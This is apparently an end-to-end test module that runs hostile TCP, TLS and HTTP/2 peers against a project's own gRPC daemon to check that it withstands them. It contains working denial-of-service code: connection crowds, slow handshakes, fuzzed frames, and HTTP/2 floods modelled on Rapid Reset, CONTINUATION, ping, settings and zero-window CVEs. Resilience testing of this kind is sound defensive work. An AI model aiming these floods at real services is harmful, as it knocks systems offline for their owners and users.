"""Peers that mean no good, each a way of speaking TCP, TLS or HTTP/2 wrongly; run as a process of its own until it is killed.

python -m tests.e2e.hostile ATTACK HOST PORT [CERT KEY CA]; with a certificate it speaks within TLS. It says "ready" once it is
at it.
"""

import os
import random
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from typing import NoReturn

CROWD = 1_000
FEW = 100

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4

CLIENT_HELLO = bytes.fromhex("1603010200010001fc0303") + bytes(400)
"""The beginning of one: a record of 512 bytes of which it has but some."""

Connect = Callable[[], socket.socket]


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def header(name: str, value: str) -> bytes:
    """A literal header field without indexing (RFC 7541 section 6.2.2); both of at most 126 bytes."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call(method: str = "DaemonService/GetStatus") -> bytes:
    """The headers of a call."""
    fields = {":method": "POST", ":scheme": "https", ":path": f"/mcast.v1.{method}", ":authority": "r"}
    fields |= {"content-type": "application/grpc", "te": "trailers"}
    return b"".join(header(name, value) for name, value in fields.items())


def ready() -> None:
    """Whoever waits may go on."""
    sys.stdout.write("ready\n")
    sys.stdout.flush()


def again_and_again(connect: Connect, talk: Callable[[socket.socket], None]) -> NoReturn:
    """Connect and talk, until the other side has enough, without end."""
    ready()
    while True:
        try:
            with connect() as sock:
                talk(sock)
        except OSError:
            time.sleep(0.001)


def crowd(connect: Connect, count: int) -> list[socket.socket]:
    """So many connections at once."""
    return [connect() for _ in range(count)]


def hear(sock: socket.socket) -> None:
    """Read what has come."""
    while select.select([sock], [], [], 0)[0]:
        if not sock.recv(65_536):
            raise ConnectionResetError


def drip(connect: Connect, count: int, text: bytes) -> NoReturn:
    """A crowd of which each sends a byte now and then, and comes back when it is thrown out."""
    socks = [(sock, iter(text)) for sock in crowd(connect, count)]
    ready()
    while True:
        for at, (sock, rest) in enumerate(socks):
            try:
                sock.send(bytes([next(rest, 0)]))
            except OSError:
                sock.close()
                socks[at] = connect(), iter(text)
        time.sleep(0.2)


# --- attacks ---------------------------------------------------------------------------------------------------------


def random_bytes(connect: Connect) -> NoReturn:
    """No protocol at all."""

    def talk(sock: socket.socket) -> None:
        for _ in range(64):
            sock.sendall(random.randbytes(4096))
            hear(sock)

    again_and_again(connect, talk)


def idle(connect: Connect) -> NoReturn:
    """Many who say nothing, and come back when they are thrown out."""
    socks = crowd(connect, CROWD)
    ready()
    while True:
        for sock in select.select(socks, [], [], 1)[0]:
            try:
                hear(sock)
            except OSError:
                socks.remove(sock)
                sock.close()
                socks.append(connect())


def half_open(connect: Connect) -> NoReturn:
    """Many who begin a handshake and stop."""
    socks = crowd(connect, FEW)
    for sock in socks:
        sock.sendall(CLIENT_HELLO)
    ready()
    while True:
        time.sleep(1)


def slow_handshake(connect: Connect) -> NoReturn:
    """A handshake byte by byte."""
    drip(connect, FEW, CLIENT_HELLO)


def slow_preface(connect: Connect) -> NoReturn:
    """HTTP/2 byte by byte."""
    drip(connect, FEW, PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, call()))


def begun(sock: socket.socket, settings: bytes = b"") -> None:
    """Begin HTTP/2."""
    sock.sendall(PREFACE + frame(SETTINGS, payload=settings))


def bad_frames(connect: Connect) -> NoReturn:
    """Frames of any type, on any stream, with anything in them."""

    def talk(sock: socket.socket) -> None:
        begun(sock)
        for _ in range(1000):
            kind, flags, stream = random.randrange(16), random.randrange(256), random.randrange(1 << 31)
            sock.sendall(frame(kind, flags, stream, random.randbytes(random.randrange(300))))
            hear(sock)

    again_and_again(connect, talk)


def huge_headers(connect: Connect) -> NoReturn:
    """Headers without end (CVE-2024-27316)."""

    def talk(sock: socket.socket) -> None:
        begun(sock)
        sock.sendall(frame(HEADERS, 0, 1, call()))
        more = b"".join(header(f"x-{at}", "y" * 100) for at in range(100))
        while True:
            sock.sendall(frame(CONTINUATION, 0, 1, more))
            hear(sock)

    again_and_again(connect, talk)


def odd_numbers() -> Iterator[int]:
    """Numbers of a client's streams."""
    yield from range(1, 1 << 31, 2)


def rapid_reset(connect: Connect) -> NoReturn:
    """Calls that are taken back at once (CVE-2023-44487)."""

    def talk(sock: socket.socket) -> None:
        begun(sock)
        for stream in odd_numbers():
            sock.sendall(frame(HEADERS, END_HEADERS, stream, call()) + frame(RST_STREAM, 0, stream, bytes(4)))
            if stream % 64 == 1:
                hear(sock)

    again_and_again(connect, talk)


def settings_flood(connect: Connect) -> NoReturn:
    """Each wants an answer (CVE-2019-9515)."""

    def talk(sock: socket.socket) -> None:
        begun(sock)
        while True:
            sock.sendall(frame(SETTINGS) * 100)

    again_and_again(connect, talk)


def ping_flood(connect: Connect) -> NoReturn:
    """So does each of these, which nobody reads (CVE-2019-9512)."""

    def talk(sock: socket.socket) -> None:
        begun(sock)
        while True:
            sock.sendall(frame(PING, payload=bytes(8)) * 100)

    again_and_again(connect, talk)


def no_window(connect: Connect) -> NoReturn:
    """Calls whose answers may not be sent (CVE-2019-9517)."""

    def talk(sock: socket.socket) -> None:
        begun(sock, (4).to_bytes(2, "big") + bytes(4))
        message = bytes(5)
        for stream in odd_numbers():
            sock.sendall(frame(HEADERS, END_HEADERS, stream, call("RouteService/ListRoutes")))
            sock.sendall(frame(DATA, END_STREAM, stream, message))
            hear(sock)
            if stream > 20_000:
                time.sleep(3600)

    again_and_again(connect, talk)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        random_bytes,
        idle,
        half_open,
        slow_handshake,
        slow_preface,
        bad_frames,
        huge_headers,
        rapid_reset,
        settings_flood,
        ping_flood,
        no_window,
    )
}


def main() -> None:
    """Attack until killed."""
    name, host, port, *files = sys.argv[1:]
    context = None
    if files:
        cert, key, ca = files
        context = ssl.create_default_context(cafile=ca)
        context.check_hostname = False
        context.load_cert_chain(cert, key)
        context.set_alpn_protocols(["h2"])

    def connect() -> socket.socket:
        while True:
            try:
                sock = socket.create_connection((host, int(port)), 20)
                return sock if context is None else context.wrap_socket(sock)
            except OSError:
                time.sleep(0.01)

    os.nice(5)  # There are two cores, and the witnesses need one: the daemon is tried, not the scheduler.
    ATTACKS[name](connect)


if __name__ == "__main__":
    main()
